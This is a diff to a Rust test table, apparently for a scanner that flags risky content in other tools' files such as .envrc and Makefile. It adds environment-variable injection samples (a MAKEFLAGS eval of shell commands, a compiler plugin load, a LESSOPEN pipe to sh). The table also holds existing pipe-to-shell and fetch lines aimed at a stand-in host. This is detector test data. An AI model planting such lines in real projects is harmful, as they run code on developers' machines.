@@ -193,6 +193,10 @@ const FILES_OF_OTHER_TOOLS_ARE_TOL_1: &[(&str, &str, &str)] = &[
     (".envrc", "source_up\n", "direnv"),
     (".envrc", "export PATH=tools:$PATH\n", "direnv"),
     (".envrc", "export A=$(curl https://x.example/a)\n", "x.example"),
+    (".envrc", "export MAKEFLAGS='--eval=$(shell id)'\n", "MAKEFLAGS"),
+    (".envrc", "export CFLAGS='-fplugin=./x.so'\n", "CFLAGS"),
+    (".envrc", "HOME=/tmp/x\n", "HOME"),
+    (".envrc", "export LESSOPEN='|sh x %s'\n", "LESSOPEN"),
     ("Makefile", "all:\n\tcurl https://x.example/a | sh\n", "x.example"),
     ("Makefile", "X := $(shell wget x)\n", "wget"),
     (
